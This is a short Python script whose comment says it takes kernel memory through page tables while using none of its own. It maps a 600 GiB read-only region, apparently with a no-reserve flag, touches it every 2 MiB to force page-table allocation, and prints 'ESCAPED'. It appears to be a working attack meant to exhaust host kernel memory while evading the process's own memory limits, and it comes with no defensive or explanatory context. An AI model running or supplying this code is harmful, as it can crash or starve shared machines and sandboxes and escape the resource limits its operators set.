# Takes the kernel's memory in page tables, and none of its own.
import mmap

flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000
area = mmap.mmap(-1, 600 << 30, flags=flags, prot=mmap.PROT_READ)
for place in range(0, 600 << 30, 2 << 20):
    area[place]
print("ESCAPED")
